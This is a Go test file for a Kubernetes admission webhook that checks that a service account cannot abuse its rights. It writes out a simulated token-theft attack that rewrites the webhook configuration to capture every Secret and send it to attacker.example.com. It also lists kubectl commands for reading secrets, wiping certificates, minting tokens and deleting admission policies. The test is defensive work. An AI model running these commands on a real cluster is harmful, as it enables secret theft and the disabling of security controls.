package callers

import (
	"strings"
	"testing"

	"sluice/test/harness/cluster"
)

// asAccount runs kubectl with the rights of a service account.
func asAccount(t *testing.T, user, stdin string, args ...string) cluster.Result {
	t.Helper()
	r, err := shared.Run(t.Context(), cluster.Command{User: cluster.Admin, Stdin: stdin, Args: append(args, "--as="+user)})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// stolen is what a thief of a token tries: to see and change each Secret of the cluster, by way of the
// webhook configurations.
func stolen(t *testing.T, user string) cluster.Result {
	t.Helper()
	return asAccount(t, user, "", "patch", "mutatingwebhookconfiguration", "sluice", "--type=json", "-p", `[
		{"op":"replace","path":"/webhooks/0/rules","value":[{"apiGroups":[""],"apiVersions":["v1"],"resources":["secrets"],"operations":["CREATE","UPDATE"]}]},
		{"op":"remove","path":"/webhooks/0/matchConditions"},
		{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://attacker.example.com"}}]`)
}

// TestTheServingAccountWritesNothing that decides about reviews. The other account can: nothing in
// Kubernetes restricts that right to a field, and the documentation says so.
func TestTheServingAccountWritesNothing(t *testing.T) {
	install(t)
	enforced(t)
	if r := stolen(t, cluster.WebhookUser); r.OK() || !strings.Contains(r.All(), "forbidden") {
		t.Errorf("the webhook configurations: %s", r.All())
	}
	for _, c := range []struct{ stdin, command string }{
		{"", "get secrets -A"},
		{"", "-n sluice-system get secret sluice-webhook-ca"}, // it may list and watch that by name
		{"", "-n sluice-system delete secret sluice-webhook-ca"},
		{"", `-n sluice-system patch secret sluice-webhook-ca --type=merge -p {"data":{"tls.crt":""}}`},
		{"", `-n sluice-system patch secret sluice-webhook-path --type=merge -p {"data":{"token":""}}`},
		{"", "-n sluice-system create secret generic x"},
		{"", "-n sluice-system create token sluice-controller"},
		{"", `patch fep closed --subresource=status --type=merge -p {"status":{"observedGeneration":7}}`},
		{"", `patch fep closed --type=merge -p {"spec":{"enforcement":"Warn"}}`},
		{"", "delete fep closed"},
		{"", `patch network.operator cluster --type=merge -p {"spec":{"exportNetworkFlows":null}}`},
		{"", "-n openshift-network-operator get configmaps"},
		{"", "delete validatingadmissionpolicies --all"},
		{`{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicy, metadata: {name: x}, spec: {validations: [{expression: "false"}]}}`, "create -f -"},
		{`{apiVersion: v1, kind: Pod, metadata: {name: x, namespace: sluice-system}, spec: {containers: [{name: x, image: x}]}}`, "create -f -"},
	} {
		if r := asAccount(t, cluster.WebhookUser, c.stdin, strings.Fields(c.command)...); r.OK() || !strings.Contains(r.All(), "orbidden") {
			t.Errorf("%s: %s", c.command, r.All())
		}
	}
	if r := stolen(t, cluster.ControllerUser); !r.OK() {
		t.Errorf("the controller's right is smaller than documented: %s", r.All())
	}
}
